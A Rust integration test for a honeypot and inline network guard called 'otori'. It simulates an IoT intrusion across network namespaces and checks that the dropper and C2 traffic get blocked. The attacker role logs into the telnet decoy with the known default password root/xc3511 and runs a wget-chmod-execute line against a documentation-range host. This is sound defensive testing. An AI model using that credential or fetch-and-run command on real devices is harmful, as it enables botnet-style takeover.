//! The closed loop over a real network: an attacker drops a program on the decoy, and what it fetches and calls is
//! refused to a guarded device, while the device's other traffic passes.
//!
//! ```text
//! attacker 203.0.113.10 ─┐                       ┌─ server 198.51.100.44 (C2), .80 (dropper), .90 (the maker)
//! decoy 203.0.113.140 ───┴─ router ──────────────┘
//!                             └─ guard (inline pair) ─ device 192.0.2.20
//! ```
//! Needs root; says so and passes where namespaces cannot be made.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests may unwrap, and say what they measured")]
mod support;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Command;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
use support::{
    namespace::Network,
    process::Process,
    role::{is_role, role},
    telnet::Telnet,
};

const FILES: &str = "198.51.100.80:80";
const MAKER: &str = "198.51.100.90:80";
const SERVICE: &str = "198.51.100.44:4444";
const DECOY: &str = "203.0.113.140:23";

fn now_ns() -> i64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos() as i64
}

fn vector(path: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../vectors").join(path)
}

/// Serves `/bot.mipsel` and any other path, and answers on the service's port. Ends with the test.
#[test]
#[ignore = "a role of the_loop_closes, run in a namespace"]
fn role_server() {
    if !is_role("role_server") {
        return;
    }
    let bot = std::fs::read(vector("samples/beacon.mipsel")).unwrap();
    let files = TcpListener::bind(FILES).unwrap();
    let maker = TcpListener::bind(MAKER).unwrap();
    let service = TcpListener::bind(SERVICE).unwrap();
    std::thread::spawn(move || {
        service.incoming().flatten().for_each(|mut peer| drop(peer.write_all(b"hello\n")))
    });
    std::thread::spawn(move || serve_files(&maker, b""));
    println!("server ready");
    serve_files(&files, &bot);
}

/// Answers any GET; `/bot.mipsel` with `bot`.
fn serve_files(listener: &TcpListener, bot: &[u8]) {
    for mut peer in listener.incoming().flatten() {
        let mut request = [0; 2048];
        let _ = peer.set_read_timeout(Some(Duration::from_secs(2)));
        let length = peer.read(&mut request).unwrap_or(0);
        let wants_bot = request[..length].starts_with(b"GET /bot.mipsel ");
        let body: &[u8] = if wants_bot { bot } else { b"fine\n" };
        let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
        let _ = peer.write_all(head.as_bytes()).and_then(|()| peer.write_all(body));
        let from = peer.peer_addr().map(|address| address.ip().to_string()).unwrap_or_default();
        if wants_bot && from.starts_with("203.0.113.") {
            println!("last dropped byte {}", now_ns());
        }
    }
}

/// One try of the device: connects, sends, wants an answer.
fn reaches(address: &str, request: &[u8]) -> bool {
    let address: SocketAddr = address.parse().unwrap();
    let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_millis(300)) else {
        return false;
    };
    let _ = stream.set_read_timeout(Some(Duration::from_millis(400)));
    let mut answer = [0; 64];
    stream.write_all(request).is_ok() && stream.read(&mut answer).is_ok_and(|length| length > 0)
}

/// The guarded device: asks again and again for three things and says what came of it. At most 90 s.
#[test]
#[ignore = "a role of the_loop_closes, run in a namespace"]
fn role_device() {
    if !is_role("role_device") {
        return;
    }
    let end = Instant::now() + Duration::from_secs(90);
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: 198.51.100.80\r\n\r\n").into_bytes();
    while Instant::now() < end {
        let began = now_ns();
        let bot = reaches(FILES, &get("/bot.mipsel"));
        let service = reaches(SERVICE, b"otori-sample hello\n");
        let other = reaches(MAKER, &get("/firmware/latest.txt"));
        println!("device {began} bot={bot} service={service} other={other}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The attacker: logs in with a well-known password, fetches and runs the program.
#[test]
#[ignore = "a role of the_loop_closes, run in a namespace"]
fn role_attacker() {
    if !is_role("role_attacker") {
        return;
    }
    let mut telnet = Telnet::connect(DECOY.parse().unwrap()).unwrap();
    telnet.log_in("root", "xc3511").unwrap();
    telnet.line("cd /tmp && wget http://198.51.100.80/bot.mipsel -O bot && chmod 755 bot && ./bot; echo status=$?").unwrap();
    let end = telnet.expect("status=0", Duration::from_secs(60));
    println!("attacker saw: {}", String::from_utf8_lossy(&telnet.received).escape_debug());
    end.unwrap();
    println!("attacker done");
}

fn build_network() -> Option<Network> {
    let mut network = Network::new("l")?;
    ["attacker", "decoy", "server", "device", "guard", "router"].iter().for_each(|host| network.host(host));
    network.link(("attacker", "eth0", &["203.0.113.10/25"]), ("router", "attacker", &["203.0.113.1/25"]));
    network.link(("decoy", "eth0", &["203.0.113.140/25"]), ("router", "decoy", &["203.0.113.129/25"]));
    network.link(
        ("server", "eth0", &["198.51.100.44/24", "198.51.100.80/24", "198.51.100.90/24"]),
        ("router", "server", &["198.51.100.1/24"]),
    );
    network.link(("device", "eth0", &["192.0.2.20/24"]), ("guard", "inside", &[]));
    network.link(("guard", "outside", &[]), ("router", "device", &["192.0.2.1/24"]));
    for (host, gateway) in [
        ("attacker", "203.0.113.1"),
        ("decoy", "203.0.113.129"),
        ("server", "198.51.100.1"),
        ("device", "192.0.2.1"),
    ] {
        network.route(host, gateway);
    }
    network.forward("router");
    Some(network)
}

const CONFIGURATION: &str = r#"
[decoy.telnet]
listen = ["203.0.113.140:23"]
[decoy.http]
listen = ["203.0.113.140:80"]
[decoy.fetch]
enabled = true
allow = ["198.51.100.0/24"]
[intel]
treat_documentation_as_public = true
[hub]
listen = "127.0.0.1:7878"
"#;

#[test]
fn the_loop_closes() {
    let Some(network) = build_network() else { return };
    let otori = env!("CARGO_BIN_EXE_otori");
    let folder = tempfile::tempdir().unwrap();
    let (data, configuration) = (folder.path().join("data"), folder.path().join("otori.toml"));
    std::fs::write(&configuration, CONFIGURATION).unwrap();
    let seconds = Duration::from_secs;

    let mut server = role(&network, "server", "role_server");
    server.wait_for("server ready", seconds(10), |line| line.contains("server ready"));
    let mut up = network.command("decoy", otori);
    up.arg("up").arg("--config").arg(&configuration).arg("--data").arg(&data);
    support_userland(&mut up);
    let mut up = Process::start("otori up", &mut up);
    up.wait_for("sign-in link", seconds(120), |line| line.contains("sign-in link: "));
    let mut guard = network.command("guard", otori);
    guard.args(["guard", "--inline", "inside:outside", "--data"]).arg(&data);
    let mut guard = Process::start("otori guard", &mut guard);
    guard.wait_for("link", seconds(20), |line| line.contains("linked"));

    let mut device = role(&network, "device", "role_device");
    device
        .wait_for("everything passes", seconds(20), |line| line.contains("bot=true service=true other=true"));
    let mut attacker = role(&network, "attacker", "role_attacker");
    attacker.wait_for("attacker done", seconds(90), |line| line.contains("attacker done"));
    let dropped =
        server.wait_for("last dropped byte", seconds(1), |line| line.starts_with("last dropped byte"));
    let dropped: i64 = dropped.rsplit(' ').next().unwrap().parse().unwrap();

    let began = |line: String| line.split(' ').nth(1).unwrap().parse::<i64>().unwrap();
    let refused = began(device.wait_for("a refusal", seconds(30), |line| line.contains("=false")));
    device.wait_for("both refused, the rest passes", seconds(30), |line| {
        line.contains("bot=false service=false other=true")
    });
    for _ in 0..3 {
        let line = device.wait_for("it stays so", seconds(10), |line| line.starts_with("device "));
        assert!(line.contains("bot=false service=false other=true"), "{line}");
    }
    let seconds_to_refusal = (refused - dropped) as f64 / 1e9;
    println!(
        "from the last dropped byte to the first refused connection of the device: {seconds_to_refusal:.3} s"
    );
    check_record(otori, &data, dropped);
}

/// The record tells the same story: every link of the chain is an event.
fn check_record(otori: &str, data: &std::path::Path, dropped: i64) {
    let output = Command::new(otori).args(["events", "--json", "--data"]).arg(data).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = String::from_utf8(output.stdout).unwrap();
    let events: Vec<otori_event::Event> =
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut first = std::collections::BTreeMap::new();
    for event in &events {
        let at: &mut i64 = first.entry(event.kind.as_str()).or_insert(event.at.0);
        *at = (*at).min(event.at.0);
    }
    for kind in [
        "login_attempt",
        "command",
        "download_requested",
        "file_captured",
        "classified",
        "detonated",
        "indicator_changed",
        "rule_changed",
        "rule_enforced",
        "verdict_given",
    ] {
        let at = first.get(kind).unwrap_or_else(|| panic!("no event {kind} in the record: {first:?}"));
        println!("  {kind:<20} {:+.3} s", (at - dropped) as f64 / 1e9);
    }
}

/// Tests share one fetched user land.
fn support_userland(command: &mut Command) {
    if let Some(root) = std::env::var_os("OTORI_USERLAND_CACHE") {
        command.env("OTORI_USERLAND_CACHE", root);
    }
}
